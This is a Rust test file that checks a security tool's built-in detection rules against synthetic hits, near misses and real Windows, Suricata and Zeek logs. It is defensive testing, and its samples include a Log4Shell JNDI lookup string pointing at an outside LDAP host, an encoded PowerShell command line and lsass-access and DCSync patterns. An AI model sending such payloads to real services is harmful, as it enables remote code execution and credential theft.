//! Every shipped rule fires on something real or made from something real, passes over a near miss, and stays quiet on daily
//! Windows events.
use crate::support::{api, eve, event, stored, zeek};
use detect::{RuleSet, builtin, check};
use model::event::Event;
use model::rule::{DetectionRule, NewRule};
use normalise::Hint;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use testdata::{data_dir, lines, windows_events};

fn rules() -> Vec<DetectionRule> {
    builtin().into_iter().enumerate().map(|(i, r)| stored(i as i64, r)).collect()
}

fn fired(set: &RuleSet, rules: &[DetectionRule], e: &Event) -> Vec<String> {
    let mut out = Vec::new();
    set.matches(e, &mut out);
    out.into_iter().map(|i| rules[i].name.clone()).collect()
}

#[test]
fn the_shipped_rules_are_valid_and_named_once() {
    let all: Vec<NewRule> = builtin();
    assert!((17..=24).contains(&all.len()), "{}", all.len());
    let mut names: Vec<_> = all.iter().map(|r| r.name.clone()).collect();
    names.sort();
    names.dedup();
    assert_eq!(names.len(), all.len());
    for r in all {
        check(&r.conditions).unwrap_or_else(|f| panic!("{}: {f:?}", r.name));
        assert!(r.description.as_ref().is_some_and(|d| d.len() > 40), "{}", r.name);
        r.check().unwrap();
    }
}

fn sysmon(id: i64, data: Value) -> Event {
    let mut r = json!({"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": id, "Computer": "PC", "UtcTime": "2024-01-01 00:00:00"});
    r.as_object_mut().unwrap().extend(data.as_object().unwrap().clone());
    api(&r)
}

fn log(channel: &str, id: i64, data: Value) -> Event {
    let mut r = json!({"Channel": channel, "EventID": id, "Computer": "PC", "TimeCreated": "2024-01-01T00:00:00Z"});
    r.as_object_mut().unwrap().extend(data.as_object().unwrap().clone());
    api(&r)
}

/// Rule, an event that fires it, one that nearly does.
fn cases() -> Vec<(&'static str, Event, Event)> {
    let alert = |sig: &str, cat: &str, sev: i64| {
        eve(
            &json!({"event_type": "alert", "src_ip": "10.0.0.5", "alert": {"signature": sig, "category": cat, "severity": sev}}),
        )
    };
    let dns = |name: &str, code: &str| {
        zeek("dns", &json!({"id.orig_h": "10.0.0.5", "query": name, "rcode_name": code}))
    };
    let http = |url: &str, agent: &str| {
        eve(
            &json!({"event_type": "http", "http": {"hostname": "h", "url": url, "http_user_agent": agent}}),
        )
    };
    let tls = |sni: &str, ja3: &str| {
        eve(
            &json!({"event_type": "tls", "tls": {"sni": sni, "ja3": {"hash": ja3, "string": "771"}}}),
        )
    };
    let conn = |ip: &str, port: i64| {
        zeek(
            "conn",
            &json!({"id.orig_h": "10.0.0.5", "id.resp_h": ip, "id.resp_p": port, "conn_state": "SF"}),
        )
    };
    let access = |target: &str, mask: &str, by: &str| {
        sysmon(10, json!({"SourceImage": by, "TargetImage": target, "GrantedAccess": mask}))
    };
    let lsass = "C:\\Windows\\system32\\lsass.exe";
    let ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let repl = "%%7688\r\n\t\t{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}";
    vec![
        ("Network IDS alert of severity 1 or 2", alert("x", "y", 2), alert("x", "y", 3)),
        (
            "Suricata malware signature",
            alert("ET MALWARE Possible Malware traffic", "y", 3),
            alert("ET INFO malware.txt", "Misc activity", 3),
        ),
        (
            "Suricata command-and-control signature",
            alert("ET CNC Zeus CnC", "y", 3),
            alert("ET INFO cnchost", "y", 3),
        ),
        (
            "DNS name does not exist",
            dns("qwxzv.example", "NXDOMAIN"),
            dns("4.3.2.1.in-addr.arpa", "NXDOMAIN"),
        ),
        (
            "DNS query for a suspicious top-level domain",
            dns("login.bank.tk", "NOERROR"),
            dns("tk.bank.com", "NOERROR"),
        ),
        (
            "HTTP client is a script or an attack tool",
            http("/", "curl/7.88.1"),
            http("/", "Mozilla/5.0 (X11; Linux) Firefox/121.0"),
        ),
        (
            "Request for an administration page",
            http("/wp-admin/setup.php", "x"),
            http("/administrative-notes", "x"),
        ),
        (
            "TLS to a suspicious server name",
            tls("a1b2.ngrok.io", "0"),
            tls("ngrok.io.example.com", "0"),
        ),
        (
            "TLS client with a known bad JA3 fingerprint",
            tls("a", "72a589da586844d7f0818ce684948eea"),
            tls("a", "72a589da586844d7f0818ce684948eeb"),
        ),
        (
            "Connection to a port that attack tools use",
            conn("10.0.0.9", 4444),
            conn("10.0.0.9", 4443),
        ),
        ("SMB to the internet", conn("203.0.113.7", 445), conn("172.31.255.254", 445)),
        (
            "Very long DNS name",
            dns(&format!("{}.t.example", "a".repeat(80)), "NOERROR"),
            dns(&format!("{}.trafficmanager.net", "a".repeat(80)), "NOERROR"),
        ),
        ("Access to the memory of lsass", access(lsass, "0x1410", ps), access(lsass, "0x1000", ps)),
        (
            "Encoded PowerShell command",
            sysmon(
                1,
                json!({"Image": ps, "CommandLine": "powershell -noP -sta -w 1 -enc SQBmACgA"}),
            ),
            sysmon(
                1,
                json!({"Image": ps, "CommandLine": "powershell -ExecutionPolicy Bypass -File encode.ps1"}),
            ),
        ),
        (
            "Service installed",
            log("System", 7045, json!({"ServiceName": "x", "ImagePath": "c:\\x.exe"})),
            log("System", 7036, json!({"param1": "x"})),
        ),
        (
            "PsExec service",
            log(
                "System",
                7045,
                json!({"ServiceName": "x", "ImagePath": "%SystemRoot%\\PSEXESVC.exe"}),
            ),
            log(
                "System",
                7045,
                json!({"ServiceName": "x", "ImagePath": "%SystemRoot%\\psexec.txt.exe"}),
            ),
        ),
        (
            "Event log cleared",
            log("Security", 1102, json!({"SubjectUserName": "eve"})),
            log("Security", 1100, json!({})),
        ),
        (
            "Directory replication by a non-machine account (DCSync)",
            log("Security", 4662, json!({"SubjectUserName": "eve", "Properties": repl})),
            log("Security", 4662, json!({"SubjectUserName": "DC01$", "Properties": repl})),
        ),
        (
            "Member added to the administrators group",
            log(
                "Security",
                4732,
                json!({"TargetSid": "S-1-5-32-544", "TargetUserName": "Administrators"}),
            ),
            log(
                "Security",
                4732,
                json!({"TargetSid": "S-1-5-32-555", "TargetUserName": "Remote Desktop Users"}),
            ),
        ),
        (
            "Log4Shell attempt",
            http("/", "${jndi:ldap://192.168.3.5:1389/o=tomcat}"),
            http("/jndi", "jndi:ldap"),
        ),
        (
            "Kerberos ticket with RC4 for a service account",
            log(
                "Security",
                4769,
                json!({"ServiceName": "sqlsvc", "TicketEncryptionType": "0x17", "Status": "0x0"}),
            ),
            log(
                "Security",
                4769,
                json!({"ServiceName": "MORDORDC$", "TicketEncryptionType": "0x17", "Status": "0x0"}),
            ),
        ),
        (
            "WMI event subscription",
            sysmon(20, json!({"Name": "Evil", "Destination": "powershell"})),
            sysmon(22, json!({"QueryName": "wmi"})),
        ),
        (
            "Agent went offline",
            api(
                &json!({"event_type": "agent_status", "severity": "low", "details": {"status": "offline", "hostname": "PC"}}),
            ),
            api(
                &json!({"event_type": "agent_status", "severity": "low", "details": {"status": "online"}}),
            ),
        ),
        (
            "Indicator seen on an endpoint",
            api(&json!({"event_type": "ioc_hit", "severity": "high", "details": {}})),
            api(&json!({"event_type": "ioc_miss", "severity": "high", "details": {}})),
        ),
    ]
}

#[test]
fn each_rule_fires_on_its_event_and_not_on_the_near_miss() {
    let rules = rules();
    let (set, bad) = RuleSet::compile(&rules);
    assert!(bad.is_empty(), "{bad:?}");
    let cases = cases();
    assert_eq!(
        cases.iter().map(|c| c.0).collect::<Vec<_>>(),
        rules.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(),
        "every rule has its case"
    );
    for (name, hit, miss) in cases {
        assert!(
            fired(&set, &rules, &hit).iter().any(|f| f == name),
            "{name} does not fire on {}",
            hit.raw
        );
        assert!(
            !fired(&set, &rules, &miss).iter().any(|f| f == name),
            "{name} fires on {}",
            miss.raw
        );
    }
}

fn count(events: impl Iterator<Item = Event>) -> (usize, BTreeMap<String, usize>) {
    let rules = rules();
    let (set, _) = RuleSet::compile(&rules);
    let mut counts = BTreeMap::new();
    let mut total = 0;
    for e in events {
        total += 1;
        for name in fired(&set, &rules, &e) {
            *counts.entry(name).or_insert(0) += 1;
        }
    }
    (total, counts)
}

#[test]
fn no_rule_is_loud_on_daily_windows_events() {
    let Some(data) = data_dir() else { return };
    let events = windows_events(&data).unwrap();
    let (total, counts) = count(events.iter().map(|l| event(Hint::Api, l)));
    println!("{counts:#?}");
    assert_eq!(total, 19_713);
    for (name, n) in &counts {
        assert!(n * 50 <= total, "{name} fires on {n} of {total}");
    }
    for name in
        ["Event log cleared", "WMI event subscription", "Service installed", "PsExec service"]
    {
        assert!(counts.contains_key(name), "{name} fires on no real event");
    }
}

#[test]
fn attacks_in_the_regression_set_are_seen() {
    let Some(data) = data_dir() else { return };
    let mut events = Vec::new();
    for line in lines(&data.join("sigma/regression.dev.jsonl")).unwrap() {
        let record: Value = serde_json::from_str(&line).unwrap();
        events.extend(record["events"].as_array().unwrap().iter().map(api));
    }
    let (total, counts) = count(events.into_iter());
    println!("{total} {counts:#?}");
    assert_eq!(total, 177);
    assert!(
        counts.contains_key("Access to the memory of lsass")
            && counts.contains_key("Encoded PowerShell command"),
        "{counts:?}"
    );
}

#[test]
fn network_rules_fire_on_real_captures() {
    let Some(data) = data_dir() else { return };
    let mut events = Vec::new();
    for dir in
        ["suricata", "zeek/otrf-apt29-day1-NASHUA", "zeek/otrf-apt29-day1-SCRANTON", "zeek/wrccdc"]
    {
        for entry in std::fs::read_dir(data.join("ids").join(dir)).unwrap() {
            let path = entry.unwrap().path();
            let name = path.file_name().unwrap().to_str().unwrap().to_owned();
            if path.is_dir() || name.ends_with(".rules") {
                continue;
            }
            let hint = if dir == "suricata" {
                Hint::Suricata
            } else {
                Hint::Zeek { file: Some(name.as_str().into()) }
            };
            events.extend(lines(&path).unwrap().iter().map(|l| event(hint.clone(), l)));
        }
    }
    let (total, counts) = count(events.into_iter());
    println!("{total} {counts:#?}");
    for name in [
        "Network IDS alert of severity 1 or 2",
        "DNS name does not exist",
        "HTTP client is a script or an attack tool",
        "Request for an administration page",
        "Log4Shell attempt",
        "Connection to a port that attack tools use",
    ] {
        assert!(counts.contains_key(name), "{name} fires on no real event");
    }
}
